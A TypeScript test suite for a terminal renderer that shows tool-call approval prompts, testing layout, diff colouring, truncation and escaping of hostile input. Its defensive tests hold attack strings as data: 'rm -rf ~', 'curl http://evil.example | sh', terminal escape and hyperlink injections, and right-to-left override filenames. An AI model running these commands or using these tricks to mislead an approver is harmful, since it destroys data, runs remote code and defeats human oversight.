import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { PresentedRequest } from '../../core/approver.ts';
import type { Presentation } from '../../core/types.ts';
import { DEFAULT_APPROVAL_KEYS, renderApproval, renderApprovalGroup } from './render-approval.ts';
import { displayWidth } from '../../core/sanitize-terminal-text.ts';

function request(overrides: Partial<PresentedRequest> & { presentation?: Presentation | undefined } = {}): PresentedRequest {
  const tool = overrides.tool ?? 'write_file';
  return {
    tool,
    description: 'Edit notes/report.md',
    payload: { path: 'notes/report.md' },
    required: true,
    presentation: undefined,
    call: { tool, args: { path: 'notes/report.md' }, callId: 'call-1' },
    context: { sessionId: 'session-1' },
    ...overrides,
  };
}

function lines(text: string): string[] {
  expect(text.endsWith('\n')).toBe(true);
  return text.slice(0, -1).split('\n');
}

/** Every line of a box is exactly `width` columns, framed by box-drawing characters. */
function expectAligned(text: string, width: number): void {
  const all = lines(text);
  expect(all[0]).toMatch(/^┌─.*┐$/u);
  expect(all[all.length - 1]).toMatch(/^└─+┘$/u);
  for (const line of all.slice(1, -1)) expect(line).toMatch(/^(│ .* │|├─.*┤)$/u);
  for (const line of all) expect(displayWidth(line), `line ${JSON.stringify(line)}`).toBe(width);
}

/** Only printable text and newlines: no C0 (not even tab), DEL or C1, no escape sequence at all. */
function expectPrintable(text: string): void {
  expect(text).not.toMatch(/[\x00-\x09\x0b-\x1f\x7f-\x9f]/);
}

const SGR = /\x1b\[[0-9;]*m/g;

const SEED_DIFF = '@@ -1,3 +1,5 @@\n # Weekly Report\n-## Summary\n+## Executive Summary\n';

describe('renderApproval: layout', () => {
  it("draws seed 001's box", () => {
    const { text, truncated } = renderApproval({
      request: request({ presentation: { type: 'diff', content: SEED_DIFF } }),
      color: false,
      width: 62,
      keys: '[y] Approve  [n] Reject  [s] Session  [v] View full',
    });
    expect(truncated).toBe(false);
    // The seed's drawing is one dash short on the top line; every line here is the same width.
    expect(text).toBe(
      [
        '┌─ write_file ───────────────────────────────────────────────┐',
        '│ Edit notes/report.md                                       │',
        '├────────────────────────────────────────────────────────────┤',
        '│ @@ -1,3 +1,5 @@                                            │',
        '│  # Weekly Report                                           │',
        '│ -## Summary                                                │',
        '│ +## Executive Summary                                      │',
        '├────────────────────────────────────────────────────────────┤',
        '│ [y] Approve  [n] Reject  [s] Session  [v] View full        │',
        '│ [s] covers later write_file calls in this session with     │',
        '│     exactly these arguments                                │',
        '└────────────────────────────────────────────────────────────┘',
        '',
      ].join('\n'),
    );
  });

  it('uses the default key line and marks a soft ask as optional', () => {
    const { text } = renderApproval({ request: request({ required: false }), color: false, width: 120 });
    expect(lines(text)[0]).toMatch(/^┌─ write_file \(optional\) ─+┐$/u);
    expect(text).toContain(DEFAULT_APPROVAL_KEYS);
    expect(DEFAULT_APPROVAL_KEYS).toBe('[y] approve once  [s] approve for session  [a] approve always  [n] deny  [v] view full  [e] edit  [?] help');
  });

  it('says which rule of the policy asked, and where it is written, as inert text', () => {
    const { text } = renderApproval({ request: request({ askedBy: { rule: 'shell.rules[2] (match: git\u001b[2J push)', at: 'toolgate.yaml:14' } }), color: false, width: 80 });
    expect(text).toContain('asked by shell.rules[2] (match: git\\x1b[2J push) — toolgate.yaml:14');
    expect(text).not.toContain('\u001b');
    expect(renderApproval({ request: request(), color: false, width: 80 }).text).not.toContain('asked by');
  });

  it('wraps the key line between keys, never inside one', () => {
    const { text } = renderApproval({ request: request(), color: false, width: 40 });
    const all = lines(text);
    const keyRows = all.slice(all.findIndex((line) => line.includes('[y] approve once'))).slice(0, 4).map((line) => line.slice(2, -2).trim());
    expect(keyRows).toEqual(['[y] approve once', '[s] approve for session', '[a] approve always  [n] deny', '[v] view full  [e] edit  [?] help']);
    for (const key of ['[y] approve once', '[a] approve always', '[n] deny', '[v] view full', '[e] edit', '[?] help']) expect(text).toContain(key);
    expectAligned(text, 40);
  });

  it('wraps long descriptions, bounded to a few rows before the arguments; [v] shows all of it', () => {
    const description = `Rewrite the whole report so that ${'every word '.repeat(30)}ends here`;
    const { text, truncated } = renderApproval({ request: request({ description }), color: false, width: 50 });
    expectAligned(text, 50);
    expect(truncated).toBe(true);
    expect(text).toContain('Rewrite the whole report');
    expect(text).toMatch(/more lines — press \[v\] to view all/);
    const rows = lines(text).slice(1).map((line) => line.slice(2, -2).trimEnd());
    expect(rows.indexOf('{')).toBeLessThan(8);
    const full = renderApproval({ request: request({ description }), color: false, width: 50, full: true }).text;
    expect(lines(full).map((line) => line.slice(2, -2).trimEnd()).join(' ')).toContain('ends here');
  });

  it('keeps the box aligned with CJK, emoji and combining marks everywhere', () => {
    const { text } = renderApproval({
      request: request({
        tool: '書き込み_ファイル',
        description: '日本語の説明文がとても長くて折り返しが必要になる場合のテストです。😀😀😀 e\u0301',
        presentation: { type: 'file_content', language: 'python', content: `print("${'こんにちは世界'.repeat(12)}")\n# 注釈\n` },
      }),
      color: false,
      width: 41,
    });
    expectAligned(text, 41);
    expect(text).toContain('書き込み_ファイル');
  });

  it('never lets a wide character straddle the right border (property)', () => {
    fc.assert(
      fc.property(fc.integer({ min: 24, max: 90 }), fc.string({ unit: fc.constantFrom('日', 'a', '😀', ' ', 'é', '\t') , maxLength: 300 }), (width, content) => {
        const { text } = renderApproval({
          request: request({ description: content, presentation: { type: 'text', content } }),
          color: false,
          width,
          full: true,
        });
        expectAligned(text, width);
      }),
      { numRuns: 150 },
    );
  });

  it('stays aligned and printable for any hostile input and any width (property)', () => {
    const hostile = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 200 }),
      fc.string({ unit: fc.constantFrom('\x1b', '[', '2K', '\r', '\n', '\t', '\u202e', '\u200b', '日', 'x', ' ', '\x9b', '\ud800', '\u0301', '\ufe0f'), maxLength: 200 }),
    );
    const type = fc.constantFrom<Presentation['type']>('text', 'diff', 'file_content', 'command', 'structured');
    fc.assert(
      fc.property(hostile, hostile, hostile, type, fc.integer({ min: -5, max: 130 }), fc.boolean(), (tool, description, content, presentationType, width, full) => {
        const { text } = renderApproval({
          request: request({ tool, description, presentation: { type: presentationType, content, language: tool, metadata: { cwd: description, path: tool } } }),
          color: false,
          width,
          full,
        });
        expectPrintable(text);
        expectAligned(text, Math.max(24, width > 0 ? width : 80));
      }),
      { numRuns: 300 },
    );
  });

  it('keeps a title with a newline on one line, escaped', () => {
    const plain = renderApproval({ request: request({ tool: 'write_file' }), color: false, width: 60 }).text;
    const { text } = renderApproval({ request: request({ tool: 'write\nfile\r\n└──┘' }), color: false, width: 60 });
    expect(lines(text)[0]).toMatch(/^┌─ write\\nfile\\r\\n└──┘ ─+┐$/u);
    expect(lines(text).length).toBe(lines(plain).length + 2); // the two warning rows, nothing else
    expectAligned(text, 60);
  });

  it('cuts an over-long title in the border with an ellipsis and shows all of it inside', () => {
    const tool = `tool_${'x'.repeat(100)}_end`;
    const { text } = renderApproval({ request: request({ tool }), color: false, width: 40 });
    expect(lines(text)[0]).toMatch(/… ─┐$/u);
    expect(text).toContain('tool: tool_');
    expect(text.replace(/[│↪\n ]/g, '')).toContain('x'.repeat(30));
    expect(text).toContain('_end');
    expectAligned(text, 40);
  });

  it('treats a nonsensical width as 80 and a tiny one as the minimum', () => {
    expectAligned(renderApproval({ request: request(), color: false, width: Number.NaN }).text, 80);
    expectAligned(renderApproval({ request: request(), color: false, width: 3 }).text, 24);
  });
});

describe('renderApproval: hostile content', () => {
  const attack = 'ls\r\x1b[2Krm -rf ~ \x1b]8;;http://x\x07link\x1b]8;;\x07';

  it('cannot hide or rewrite text with a carriage return, erase-line or hyperlink', () => {
    for (const presentation of [
      { type: 'command' as const, content: attack },
      { type: 'text' as const, content: attack },
      { type: 'structured' as const, content: attack },
      { type: 'file_content' as const, content: attack },
      { type: 'diff' as const, content: `+${attack}` },
      undefined,
    ]) {
      const { text } = renderApproval({ request: request({ description: attack, payload: { command: attack }, presentation }), color: false, width: 120 });
      expectPrintable(text);
      // JSON payloads carry the attack JSON-escaped; every other form shows our escapes.
      const expected = presentation === undefined ? 'ls\\r\\u001b[2Krm -rf ~ \\u001b]8;;http://x\\u0007link\\u001b]8;;\\u0007' : 'ls\\r\\x1b[2Krm -rf ~ \\x1b]8;;http://x\\x07link\\x1b]8;;\\x07';
      expect(text).toContain(expected);
      // The description carries it too, and the warning says hidden characters were there.
      expect(text).toContain('│ ls\\r\\x1b[2Krm -rf ~ ');
      expect(text).toContain('⚠');
      expectAligned(text, 120);
    }
  });

  it('colour output differs from plain output only by colour codes, and attackers cannot add any', () => {
    const hostile = request({
      tool: 'shell\x1b[0m\x1b[8m',
      description: `Run \x1b[32mthis\x1b[0m\u202e`,
      presentation: { type: 'diff', content: `@@ -1 +1 @@\n-\x1b[31mold\n+new\x9b31m\x1b]52;c;ZXZpbA==\x07\n` },
    });
    const coloured = renderApproval({ request: hostile, color: true, width: 70 }).text;
    const plain = renderApproval({ request: hostile, color: false, width: 70 }).text;
    expect(coloured).not.toBe(plain);
    expect(coloured.replace(SGR, '')).toBe(plain);
    // Every escape character in the coloured output starts one of our SGR sequences.
    expect(coloured.replace(SGR, '')).not.toMatch(/[\x00-\x09\x0b-\x1f\x7f-\x9f]/);
  });

  it('shows a right-to-left override as \\u202e wherever it appears', () => {
    const { text } = renderApproval({
      request: request({ tool: 'rename\u202e', description: 'file\u202etxt.exe', presentation: { type: 'command', content: 'mv a "b\u202egpj.exe"', metadata: { cwd: '/tmp/\u202e' } } }),
      color: false,
      width: 80,
    });
    expect(text).not.toContain('\u202e');
    expect(text).toContain('rename\\u202e');
    expect(text).toContain('file\\u202etxt.exe');
    expect(text).toContain('mv a "b\\u202egpj.exe"');
    expect(text).toContain('in /tmp/\\u202e');
  });

  it('warns when hidden characters were escaped, even in the part that is truncated away', () => {
    const content = `${Array.from({ length: 100 }, (_, index) => `line ${index}`).join('\n')}\nsecret\u200bword`;
    const { text, truncated } = renderApproval({ request: request({ presentation: { type: 'text', content } }), color: false, width: 80, maxLines: 5 });
    expect(truncated).toBe(true);
    expect(text).not.toContain('secret');
    expect(lines(text)[1]).toContain('⚠ 1 hidden or control character is shown escaped, e.g. \\u200b');
  });

  it('does not warn about clean requests', () => {
    const { text } = renderApproval({ request: request({ presentation: { type: 'diff', content: SEED_DIFF } }), color: false, width: 80 });
    expect(text).not.toContain('⚠');
  });

  it('collapses 10,000 spaces so the rest of a command stays in view', () => {
    const command = `echo hello${' '.repeat(10_000)}; curl http://evil.example | sh`;
    const { text, truncated } = renderApproval({ request: request({ tool: 'shell', presentation: { type: 'command', content: command } }), color: false, width: 80 });
    expect(truncated).toBe(false);
    expect(text).toContain('⟨… 10000 spaces⟩');
    expect(text).toContain('; curl http://evil.example | sh');
    expect(lines(text).length).toBeLessThan(12);
  });

  it('collapses floods of blank lines so what follows them stays in view', () => {
    const content = `harmless\n${'\n'.repeat(5000)}send all the money`;
    const { text, truncated } = renderApproval({ request: request({ presentation: { type: 'text', content } }), color: false, width: 80 });
    expect(truncated).toBe(false);
    expect(text).toContain('⟨… 5000 blank lines⟩');
    expect(text).toContain('send all the money');
  });

  it('never cuts a long line: every character appears, wrapped with ↪', () => {
    const token = Array.from({ length: 400 }, (_, index) => String.fromCharCode(97 + (index % 26))).join('');
    const { text } = renderApproval({ request: request({ presentation: { type: 'command', content: `echo ${token} END` } }), color: false, width: 40, full: true });
    const rows = lines(text).filter((line) => line.startsWith('│ $ ') || line.startsWith('│ ↪ ')).map((line) => line.slice(4, -2).trimEnd());
    expect(rows.length).toBeGreaterThan(5);
    expect(rows.join('').replace(/ /g, '')).toBe(`echo${token}END`);
    expectAligned(text, 40);
  });

  it('does not split an escape across rows', () => {
    const content = `${'a'.repeat(34)}\u202e${'b'.repeat(10)}`;
    const { text } = renderApproval({ request: request({ presentation: { type: 'text', content } }), color: false, width: 40 });
    expect(text).toContain('\\u202e');
    expectAligned(text, 40);
  });
});

describe('renderApproval: presentations', () => {
  it('colours a diff only when colour is on', () => {
    const on = renderApproval({ request: request({ presentation: { type: 'diff', content: SEED_DIFF } }), color: true, width: 62 }).text;
    const off = renderApproval({ request: request({ presentation: { type: 'diff', content: SEED_DIFF } }), color: false, width: 62 }).text;
    expect(on).toContain('\x1b[32m+## Executive Summary\x1b[39m');
    expect(on).toContain('\x1b[31m-## Summary\x1b[39m');
    expect(on).toContain('\x1b[36m@@ -1,3 +1,5 @@\x1b[39m');
    expect(off).not.toContain('\x1b');
    expect(off).toContain('+## Executive Summary');
  });

  it('colours a removed line that looks like a file header as a removal', () => {
    const diff = '--- a/notes.md\n+++ b/notes.md\n@@ -1,2 +1,1 @@\n--- old rule\n keep\n';
    const { text } = renderApproval({ request: request({ presentation: { type: 'diff', content: diff } }), color: true, width: 60 });
    expect(text).toContain('\x1b[1m--- a/notes.md\x1b[22m');
    expect(text).toContain('\x1b[31m--- old rule\x1b[39m');
  });

  it('builds the diff from before/after contents when no diff text is given, with the path in the separator', () => {
    const { text } = renderApproval({
      request: request({ presentation: { type: 'diff', content: '', metadata: { path: 'notes/report.md', oldContent: 'a\nb\n', newContent: 'a\nc\n' } } }),
      color: false,
      width: 60,
    });
    expect(text).toMatch(/├─ notes\/report\.md ─+┤/u);
    expect(text).toContain('│ -b ');
    expect(text).toContain('│ +c ');
  });

  it('shows file content with line numbers and the language in the separator', () => {
    const content = '# a comment\nimport os\n\tprint("x")\n';
    const { text } = renderApproval({
      request: request({ presentation: { type: 'file_content', content, language: 'python', metadata: { path: 'tool.py' } } }),
      color: false,
      width: 60,
    });
    expect(text).toMatch(/├─ tool\.py · python ─+┤/u);
    expect(text).toContain('│ 1  # a comment ');
    expect(text).toContain('│ 2  import os ');
    expect(text).toContain('│ 3      print("x") ');
    const coloured = renderApproval({ request: request({ presentation: { type: 'file_content', content, language: 'python' } }), color: true, width: 60 }).text;
    expect(coloured).toContain('\x1b[2m1  # a comment\x1b[22m');
    expect(coloured).toContain('\x1b[2m2  \x1b[22mimport os');
    expect(coloured).toContain('├─ \x1b[22m\x1b[1mpython\x1b[22m');
  });

  it('keeps line numbers true when blank lines are collapsed', () => {
    const content = `first\n${'\n'.repeat(10)}eleventh? no: twelfth\n`;
    const { text } = renderApproval({ request: request({ presentation: { type: 'file_content', content } }), color: false, width: 60 });
    expect(text).toContain('⟨… 10 blank lines⟩');
    expect(text).toContain('12  eleventh? no: twelfth');
  });

  it('shows a command with $, continuation lines with > and the working directory', () => {
    const { text } = renderApproval({
      request: request({ tool: 'shell', presentation: { type: 'command', content: 'cd build\nmake install', metadata: { cwd: '/home/me/project' } } }),
      color: false,
      width: 60,
    });
    expect(text).toContain('│ $ cd build ');
    expect(text).toContain('│ > make install ');
    expect(text).toContain('│ in /home/me/project ');
    const other = renderApproval({ request: request({ presentation: { type: 'command', content: 'ls', metadata: { workingDirectory: '/srv' } } }), color: false, width: 60 }).text;
    expect(other).toContain('│ in /srv ');
  });

  it('pretty-prints structured JSON without changing a single value', () => {
    const content = '{"amount":12345678901234567890123,"to":"a","to":"b","tags":[],"nested":{"ok":true}}';
    const { text } = renderApproval({ request: request({ presentation: { type: 'structured', content } }), color: false, width: 60 });
    expect(text).toContain('"amount": 12345678901234567890123,');
    expect(text).toContain('"to": "a",');
    expect(text).toContain('"to": "b",');
    expect(text).toContain('"tags": [],');
    expect(text).toContain('"ok": true');
  });

  it('shows structured content that is not JSON as given', () => {
    const { text } = renderApproval({ request: request({ presentation: { type: 'structured', content: 'to: alice\nsubject: hi' } }), color: false, width: 60 });
    expect(text).toContain('│ to: alice ');
    expect(text).toContain('│ subject: hi ');
  });

  it('shows text as is', () => {
    const { text } = renderApproval({ request: request({ presentation: { type: 'text', content: 'Send "hi" to alice@example.com' } }), color: false, width: 60 });
    expect(text).toContain('│ Send "hi" to alice@example.com ');
  });

  it('shows the payload as pretty JSON when there is no presentation, even a cyclic or BigInt one', () => {
    const payload: Record<string, unknown> = { to: 'alice', amount: 10n };
    payload.self = payload;
    const { text } = renderApproval({ request: request({ payload, presentation: undefined }), color: false, width: 60 });
    expect(text).toContain('"to": "alice",');
    expect(text).toContain('"amount": "10n",');
    expect(text).toContain('"self": "[circular]"');
  });

  it('says so when content is empty', () => {
    expect(renderApproval({ request: request({ presentation: { type: 'text', content: '' } }), color: false, width: 60 }).text).toContain('(empty)');
    expect(renderApproval({ request: request({ presentation: { type: 'diff', content: '' } }), color: false, width: 60 }).text).toContain('(no changes)');
  });
});

describe('renderApproval: binary content', () => {
  const binary = `\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR${'\x00\xff\xfe'.repeat(500)}`;

  it('describes binary content instead of dumping it', () => {
    const { text } = renderApproval({ request: request({ presentation: { type: 'file_content', content: binary } }), color: false, width: 80 });
    expectPrintable(text);
    expect(text).toContain(`binary content (${Buffer.byteLength(binary)} bytes)`);
    expect(text).toContain('starts with: \\x89PNG\\r\\n\\x1a\\n\\x00\\x00\\x00\\rIHDR');
    // The frame, the description, two lines about the content and the keys: nothing of the bytes themselves.
    expect(lines(text).length).toBeLessThan(13);
    expect(renderApproval({ request: request({ presentation: { type: 'file_content', content: binary } }), color: false, width: 80, full: true }).text).toBe(text);
  });

  it('uses what the metadata says about it', () => {
    const sized = renderApproval({ request: request({ presentation: { type: 'file_content', content: binary, metadata: { size: 20480, mimeType: 'image/png' } } }), color: false, width: 80 }).text;
    expect(sized).toContain('binary content (20480 bytes, image/png)');
    const described = renderApproval({ request: request({ presentation: { type: 'text', content: binary, metadata: { description: 'logo.png, 20 KB\x1b[8m' } } }), color: false, width: 80 }).text;
    expect(described).toContain('logo.png, 20 KB\\x1b[8m');
    expect(described).not.toContain('binary content (');
  });

  it('treats text full of replacement characters as binary', () => {
    const { text } = renderApproval({ request: request({ presentation: { type: 'text', content: '\ufffd\ufffdab\ufffd' } }), color: false, width: 80 });
    expect(text).toContain('binary content (');
  });

  it('always shows a command in full, even with a NUL in it', () => {
    const { text } = renderApproval({ request: request({ presentation: { type: 'command', content: 'rm -rf ~\x00 # harmless' } }), color: false, width: 80 });
    expect(text).toContain('$ rm -rf ~\\x00 # harmless');
    expect(text).not.toContain('binary content');
  });
});

describe('renderApproval: truncation', () => {
  const content = Array.from({ length: 100 }, (_, index) => `line ${index + 1}`).join('\n');

  it('shows at most maxLines content lines and says how many more there are', () => {
    const { text, truncated } = renderApproval({ request: request({ presentation: { type: 'text', content } }), color: false, width: 60, maxLines: 10 });
    expect(truncated).toBe(true);
    expect(text).toContain('│ line 10 ');
    expect(text).not.toContain('line 11');
    expect(text).toContain('… 90 more lines — press [v] to view all');
    expectAligned(text, 60);
  });

  it('defaults to about 30 lines', () => {
    const { text, truncated } = renderApproval({ request: request({ presentation: { type: 'text', content } }), color: false, width: 60 });
    expect(truncated).toBe(true);
    expect(text).toContain('│ line 30 ');
    expect(text).not.toContain('line 31');
    expect(text).toContain('… 70 more lines');
  });

  it('counts wrapped rows, so one enormous line cannot hide behind "1 more line"', () => {
    const { text, truncated } = renderApproval({ request: request({ presentation: { type: 'text', content: `short\n${'x'.repeat(5000)}` } }), color: false, width: 60, maxLines: 5 });
    expect(truncated).toBe(true);
    expect(text).toMatch(/… \d{2,} more lines/u);
  });

  it('shows everything with full: true', () => {
    const { text, truncated } = renderApproval({ request: request({ presentation: { type: 'text', content } }), color: false, width: 60, maxLines: 10, full: true });
    expect(truncated).toBe(false);
    expect(text).toContain('│ line 100 ');
    expect(text).not.toContain('more lines');
  });

  it('limits a huge description too, so it cannot push the content out of view', () => {
    const description = Array.from({ length: 200 }, (_, index) => `reason ${index}`).join('\n');
    const { text, truncated } = renderApproval({ request: request({ description, presentation: { type: 'command', content: 'rm -rf ~' } }), color: false, width: 60 });
    expect(truncated).toBe(true);
    expect(text).toContain('$ rm -rf ~');
    expect(lines(text).length).toBeLessThan(25);
    expect(renderApproval({ request: request({ description }), color: false, width: 60, full: true }).text).toContain('reason 199');
  });
});

describe('renderApproval: request fields', () => {
  it('warns when the request names another tool than the call', () => {
    const { text } = renderApproval({ request: { ...request(), tool: 'read_file' }, color: false, width: 80 });
    expect(text).toContain('⚠ the request names "read_file" but the call is to "write_file"');
  });

  it('shows a missing tool name as such', () => {
    const { text } = renderApproval({ request: request({ tool: '' }), color: false, width: 60 });
    expect(lines(text)[0]).toMatch(/^┌─ \(no tool name\) ─+┐$/u);
  });
});

describe('renderApprovalGroup', () => {
  const group = [
    request({ tool: 'write_file', groupId: 'batch-1', description: 'Edit notes/report.md', presentation: { type: 'diff', content: SEED_DIFF } }),
    request({ tool: 'shell', groupId: 'batch-1', description: 'Publish', required: false, presentation: { type: 'command', content: 'make publish\x1b[2K' } }),
  ];

  it('lists every request in one box with one key line for the group', () => {
    const { text, truncated } = renderApprovalGroup({ requests: group, color: false, width: 70 });
    expect(truncated).toBe(false);
    expect(lines(text)[0]).toMatch(/^┌─ 2 requests · group batch-1 ─+┐$/u);
    expect(text).toContain('│ [1] write_file ');
    expect(text).toContain('│ [2] shell (optional) ');
    expect(text).toContain('+## Executive Summary');
    expect(text).toContain('$ make publish\\x1b[2K');
    expect(text).toContain('[y] approve all once');
    expect(text.match(/\[y\]/g)).toHaveLength(1);
    expectPrintable(text);
    expectAligned(text, 70);
  });

  it('keeps each entry compact and says what was left out', () => {
    const long = request({ groupId: 'batch-1', presentation: { type: 'text', content: Array.from({ length: 50 }, (_, index) => `row ${index}`).join('\n') } });
    const { text, truncated } = renderApprovalGroup({ requests: [long, long, long], color: false, width: 60, maxLines: 9 });
    expect(truncated).toBe(true);
    expect(text.match(/more lines — press \[v\]/g)).toHaveLength(3);
    const full = renderApprovalGroup({ requests: [long, long, long], color: false, width: 60, maxLines: 9, full: true });
    expect(full.truncated).toBe(false);
    expect(full.text.match(/row 49/g)).toHaveLength(3);
  });

  it('warns when the requests do not share a group id, and sanitizes the group id', () => {
    const { text } = renderApprovalGroup({ requests: [group[0]!, { ...group[1]!, groupId: 'other\x1b[2K' }], color: false, width: 80 });
    expect(text).toContain('⚠ these requests do not share one group id');
    const hostile = renderApprovalGroup({ requests: [{ ...group[0]!, groupId: 'g\r\x1b[2K' }], color: false, width: 80 }).text;
    expect(lines(hostile)[0]).toContain('1 request · group g\\r\\x1b[2K');
    expectPrintable(hostile);
  });

  it('colours only with colour on, and colour adds nothing but colour codes', () => {
    const coloured = renderApprovalGroup({ requests: group, color: true, width: 70 }).text;
    const plain = renderApprovalGroup({ requests: group, color: false, width: 70 }).text;
    expect(coloured).toContain('\x1b[32m+## Executive Summary');
    expect(coloured.replace(SGR, '')).toBe(plain);
  });

  it('draws an empty group without failing', () => {
    const { text } = renderApprovalGroup({ requests: [], color: false, width: 40 });
    expect(text).toContain('(no requests)');
    expectAligned(text, 40);
  });
});

describe('renderApproval: the full view', () => {
  it('shows metadata.full_content where the tool cut its content short, and only in the full view', () => {
    const full = Array.from({ length: 80 }, (_, index) => `line ${index + 1}`).join('\n');
    const presentation: Presentation = { type: 'file_content', content: 'line 1\nline 2\n[… 78 more lines]', metadata: { full_content: full } };
    const compact = renderApproval({ request: request({ presentation }), color: false, width: 80 });
    expect(compact.text).not.toContain('line 80');
    const complete = renderApproval({ request: request({ presentation }), color: false, width: 80, full: true });
    expect(complete.text).toContain('line 80');
    expect(complete.truncated).toBe(false);
  });
});
